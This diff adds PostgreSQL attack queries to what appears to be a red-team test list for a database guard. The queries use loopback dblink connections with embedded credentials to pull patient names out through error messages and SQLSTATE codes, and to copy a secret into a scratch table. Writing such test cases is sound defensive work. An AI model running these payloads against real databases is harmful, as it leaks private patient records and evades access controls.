@@ -33,3 +33,10 @@ SELECT * FROM dblink('c', 'SELECT full_name FROM clinic.patients') AS t(name tex
 SELECT dblink_connect('c', 'host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'))
 SELECT dblink_exec('c', 'DO $x$ BEGIN RAISE EXCEPTION ''%'', (SELECT full_name FROM clinic.patients WHERE id = 2); END $x$', false)
 SELECT dblink_error_message('c')
+-- dblink's SQLSTATE
+SELECT dblink_connect('c', 'host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'))
+SELECT dblink_exec('c', 'DO $x$ BEGIN RAISE EXCEPTION ''x'' USING ERRCODE = (SELECT upper(substr(full_name, 1, 5)) FROM clinic.patients WHERE id = 2); END $x$')
+SELECT dblink_exec('c', 'DO $x$ BEGIN RAISE EXCEPTION ''x'' USING ERRCODE = (SELECT upper(substr(full_name, 6, 5)) FROM clinic.patients WHERE id = 2); END $x$')
+-- dblink that writes here
+SELECT dblink_exec('host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'), 'UPDATE $V.scratch SET code = secret FROM $V.victim v WHERE v.id = 2')
+SELECT code FROM $V.scratch
